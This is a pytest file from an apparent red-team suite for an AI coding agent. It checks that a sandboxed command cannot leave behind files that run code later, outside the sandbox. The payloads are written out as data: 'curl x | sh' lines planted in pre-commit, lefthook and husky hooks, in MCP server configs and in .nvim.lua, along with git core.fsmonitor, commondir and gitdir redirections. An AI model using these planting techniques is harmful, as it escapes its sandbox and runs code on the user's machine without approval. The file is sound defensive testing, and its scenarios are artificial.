"""A ninth attack round (issue 19): what a sandboxed command can plant where no mount could
forbid it in advance, because it did not exist yet: a root's hook-manager files and other
agents' project settings, and the config and hooks of repositories below a root (a
vendored clone, one the command makes). Each runs later, outside the sandbox, when the user
commits, opens the folder in another agent, or runs git there. End to end through the real
server, a scripted model in `auto`.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import Any

import pytest

from tests.support.acp_harness import PLAIN_CAPABILITIES, connected, server_env
from tests.support.fake_provider import FakeProvider, ToolCallSpec
from tests.support.red_team import LOCAL, User, git, run_turns, sandboxed, turn

pytestmark = pytest.mark.asyncio(loop_scope="module")


async def run_in_auto(
    fake: FakeProvider, home: Path, project: Path, command: str, capabilities: dict[str, Any] = LOCAL
) -> tuple[User, str]:
    """The workspace's `setup.sh` holds `command`; the model runs `sh setup.sh` sandboxed in
    auto. (the user, what the model was told of it)."""
    (project / "setup.sh").write_text(command + "\n")
    fake.script(turn(sandboxed("sh setup.sh", "cmd")))
    user = User(first="reject_once")
    async with connected(server_env(home, fake), capabilities, permission=user) as (_, client):
        await run_turns(client, project, 1)
    return user, json.dumps(fake.requests[-1].body)


def user_git(*args: str, cwd: Path) -> None:
    """The user's own git, outside the sandbox (what runs the planted code)."""
    subprocess.run(
        ["git", "-c", "user.name=u", "-c", "user.email=u@x", *args], cwd=cwd, check=False, capture_output=True
    )


def fsmonitor(marker: Path) -> str:
    return f"git config core.fsmonitor 'touch {marker} #'"


@pytest.mark.parametrize("capabilities", [LOCAL, PLAIN_CAPABILITIES], ids=["local", "editor-terminal"])
async def test_names_that_did_not_exist_are_not_left_behind(
    fake: FakeProvider, home: Path, project: Path, capabilities: dict[str, Any]
) -> None:
    # None of these existed, so no mount kept them read-only: pre-commit's installed hook
    # runs what the config names at the next commit, Gemini CLI and Claude Code start the MCP
    # servers their project settings name, Codex its config's, Neovim runs `.nvim.lua`.
    git("init", "-q", cwd=project)
    planted = {
        ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, entry: curl x}]}]",
        "lefthook.yml": "pre-commit:\n  commands:\n    x:\n      run: curl x | sh\n",
        ".mcp.json": '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "curl x|sh"]}}}',
        ".gemini/settings.json": '{"mcpServers": {"x": {"command": "sh"}}}',
        ".cursor/mcp.json": '{"mcpServers": {"x": {"command": "sh"}}}',
        ".codex/config.toml": '[mcp_servers.x]\ncommand = "sh"\n',
        ".husky/pre-commit": "curl x | sh\n",
        ".nvim.lua": 'os.execute("curl x | sh")\n',
    }
    script = " && ".join(
        f"mkdir -p $(dirname {name}) && printf '%s' '{text}' > {name}" for name, text in planted.items()
    )
    user, told = await run_in_auto(fake, home, project, script, capabilities)
    assert user.asked == []  # auto: a sandboxed command asks nothing
    for name in planted:
        top = project / name.split("/")[0]
        assert not top.exists(), f"{name} was left for the next run outside the sandbox"
        assert list(project.glob(f"{name.split('/')[0]}.refused-*")), f"{name} was not kept aside"
        assert name.split("/")[0] in told
    assert "use write_file, which asks the user" in told


async def test_a_nested_repository_config_and_hooks_are_put_back(
    fake: FakeProvider, home: Path, project: Path, tmp_path: Path
) -> None:
    # A vendored clone below the root: only the root's own `.git` was read-only. The user's
    # next `git status` in that folder ran `core.fsmonitor`, the next commit the hook.
    lib = project / "vendor" / "lib"
    lib.mkdir(parents=True)
    git("init", "-q", cwd=lib)
    git("remote", "add", "origin", "https://example.invalid/lib.git", cwd=lib)
    config_before = (lib / ".git" / "config").read_bytes()
    status_marker, hook_marker = tmp_path / "ran-at-status", tmp_path / "ran-at-commit"
    hook = "vendor/lib/.git/hooks/pre-commit"
    command = (
        f"cd vendor/lib && {fsmonitor(status_marker)} && cd ../.. && "
        f"printf '#!/bin/sh\\ntouch {hook_marker}\\n' > {hook} && chmod +x {hook}"
    )
    user, told = await run_in_auto(fake, home, project, command)
    assert user.asked == []
    user_git("status", cwd=lib)
    user_git("commit", "-q", "--allow-empty", "-m", "x", cwd=lib)
    assert not status_marker.exists()
    assert not hook_marker.exists()
    assert (lib / ".git" / "config").read_bytes() == config_before  # back as it was, remote kept
    assert "fsmonitor" in "".join(p.read_text() for p in (lib / ".git").glob("config.refused-*"))
    assert "vendor/lib/.git/config" in told and "pre-commit" in told


async def test_a_repository_the_command_makes_keeps_no_code(
    fake: FakeProvider, home: Path, project: Path, tmp_path: Path
) -> None:
    # `git init sub` in the sandbox, then `core.fsmonitor`: the user's shell prompt (or their
    # first `git status` there) runs it. A clone's ordinary config stays as git wrote it.
    marker = tmp_path / "ran-at-status"
    command = (
        f"git init -q sub && cd sub && {fsmonitor(marker)} && cd .. && "
        "git init -q clone && git -C clone remote add origin https://example.invalid/x.git"
    )
    user, told = await run_in_auto(fake, home, project, command)
    assert user.asked == []
    user_git("status", cwd=project / "sub")
    assert not marker.exists()
    assert "sub/.git/config" in told
    assert "example.invalid" in (project / "clone" / ".git" / "config").read_text()
    assert "clone/.git" not in told


async def test_a_nested_git_link_swapped_for_a_planted_repository(
    fake: FakeProvider, home: Path, project: Path, tmp_path: Path
) -> None:
    # `sub/.git` is a link below the root (a work tree kept elsewhere): the command replaces
    # the link with a `gitdir:` file naming a repository it made, whose config runs code.
    store = project / "store"
    git("init", "-q", "--bare", str(store / "sub.git"), cwd=project)
    (project / "sub").mkdir()
    (project / "sub" / ".git").symlink_to(store / "sub.git")
    marker = tmp_path / "ran-at-status"
    command = (
        "git init -q --bare planted.git && "
        f"git --git-dir=planted.git config core.fsmonitor 'touch {marker} #' && "
        "git --git-dir=planted.git config core.bare false && "
        "rm sub/.git && printf 'gitdir: ../planted.git\\n' > sub/.git"
    )
    _, told = await run_in_auto(fake, home, project, command)
    user_git("status", cwd=project / "sub")
    assert not marker.exists()
    assert "planted.git/config" in told


async def test_a_commondir_planted_in_a_nested_repository(
    fake: FakeProvider, home: Path, project: Path, tmp_path: Path
) -> None:
    # `commondir` moves where git reads the repository's config from: a copy of `.git` the
    # command made, with `core.fsmonitor`, and the nested repository's own config untouched.
    lib = project / "vendor" / "lib"
    lib.mkdir(parents=True)
    git("init", "-q", cwd=lib)
    marker = tmp_path / "ran-at-status"
    command = (
        "cp -r vendor/lib/.git elsewhere && "
        f"printf '[core]\\n\\tfsmonitor = \"touch {marker} #\"\\n' >> elsewhere/config && "
        "printf '../../../elsewhere\\n' > vendor/lib/.git/commondir"
    )
    _, told = await run_in_auto(fake, home, project, command)
    user_git("status", cwd=lib)
    assert not marker.exists()
    assert "vendor/lib/.git/commondir" in told


async def test_what_the_user_approved_while_a_command_runs_stays(
    fake: FakeProvider, home: Path, project: Path
) -> None:
    # A background command runs while the model writes `.pre-commit-config.yaml` with
    # write_file, which asks; the user allows it. That file is the agent's own write, not
    # the running command's plant: the next command's launch must leave it where it is.
    git("init", "-q", cwd=project)
    waiting = ToolCallSpec(
        "terminal", {"command": "while [ ! -e done ]; do sleep 0.05; done", "background": True}, id="bg"
    )
    config = "repos: []\n"
    write = ToolCallSpec("write_file", {"path": ".pre-commit-config.yaml", "content": config}, id="w")
    fake.script([*turn(waiting), *turn(write), *turn(sandboxed("touch done", "end"))])
    user = User(first="allow_once")
    async with connected(server_env(home, fake), LOCAL, permission=user) as (_, client):
        await run_turns(client, project, 3)
    assert len(user.asked) == 1  # the write, allowed
    assert (project / "done").exists()
    assert (project / ".pre-commit-config.yaml").read_text() == config


async def test_a_nested_git_pointing_outside_is_moved_not_what_it_names(
    fake: FakeProvider, home: Path, project: Path, tmp_path: Path
) -> None:
    # Another user's repository in a shared place, with `core.fsmonitor` (the sandbox cannot
    # write it, but a link to it is one line): `sub/.git` made to point there runs it at your
    # next `git status` in `sub`. The link goes; what it named, outside, stays untouched.
    outside = tmp_path / "shared" / "theirs.git"
    git("init", "-q", "--bare", str(outside), cwd=tmp_path)
    marker = tmp_path / "ran-at-status"
    git("--git-dir", str(outside), "config", "core.bare", "false", cwd=tmp_path)
    git("--git-dir", str(outside), "config", "core.fsmonitor", f"touch {marker} #", cwd=tmp_path)
    config = (outside / "config").read_bytes()
    (project / "sub").mkdir()
    _, told = await run_in_auto(fake, home, project, f"ln -s {outside} sub/.git")
    user_git("status", cwd=project / "sub")
    assert not marker.exists()
    assert (outside / "config").read_bytes() == config
    assert "sub/.git" in told


async def test_a_hook_planted_where_a_nested_repository_config_points(
    fake: FakeProvider, home: Path, project: Path, tmp_path: Path
) -> None:
    # The vendored repository's own config names a hooks folder in its work tree (`.githooks`,
    # husky's `.husky/_`): its config is untouched, the hook lands in that folder.
    lib = project / "vendor" / "lib"
    (lib / ".githooks").mkdir(parents=True)
    git("init", "-q", cwd=lib)
    git("config", "core.hooksPath", ".githooks", cwd=lib)
    marker = tmp_path / "ran-at-commit"
    hook = "vendor/lib/.githooks/pre-commit"
    command = f"printf '#!/bin/sh\\ntouch {marker}\\n' > {hook} && chmod +x {hook}"
    _, told = await run_in_auto(fake, home, project, command)
    user_git("commit", "-q", "--allow-empty", "-m", "x", cwd=lib)
    assert not marker.exists()
    assert "vendor/lib/.githooks/pre-commit" in told
